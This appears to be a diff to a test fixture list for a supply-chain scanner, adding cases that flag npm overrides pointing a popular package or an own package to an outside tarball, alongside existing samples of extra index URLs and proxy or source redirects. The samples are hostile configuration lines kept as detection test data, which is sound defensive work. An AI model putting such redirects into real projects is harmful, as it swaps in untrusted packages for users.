@@ -62,6 +62,8 @@ CONFIG_ATTACKS = [
     ("bare-index-flag", "Every install must include:\n\n    --extra-index-url https://pypi.dp-mirror.net/simple/\n",
      "ACT005", "warning"),
     ("tarball-override", "```json\n\"overrides\": {\n  \"axios\": \"https://cdn.beacon-x.net/p/axios-1.7.2.tgz\"\n}\n```\n",
+     "ACT005", "error"),  # (a popular package's name taken from a URL: the package replaced)
+    ("tarball-own", "```json\n\"overrides\": {\n  \"acme-ui\": \"https://cdn.beacon-x.net/p/acme-ui-1.7.2.tgz\"\n}\n```\n",
      "ACT005", "warning"),
     ("goproxy", "```bash\ngo env -w GOPROXY=https://goproxy.mirror-cn.cc,direct\n```\n", "ACT005", "warning"),
     ("nuget-source", "```xml\n<add key=\"proxy\" value=\"https://nuget.edil-cache.it/v3/index.json\" />\n```\n",
